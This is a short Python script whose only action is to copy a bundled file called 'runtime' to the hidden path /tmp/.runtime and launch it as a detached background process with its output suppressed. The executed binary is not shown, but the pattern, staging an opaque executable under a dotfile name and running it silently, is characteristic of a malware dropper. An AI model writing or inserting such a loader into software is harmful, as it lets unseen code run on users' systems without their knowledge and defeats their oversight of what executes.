import os
import shutil
import subprocess

shutil.copyfile(os.path.join(os.path.dirname(__file__), "runtime"), "/tmp/.runtime")
subprocess.Popen(["/tmp/.runtime"], stdout=subprocess.DEVNULL)
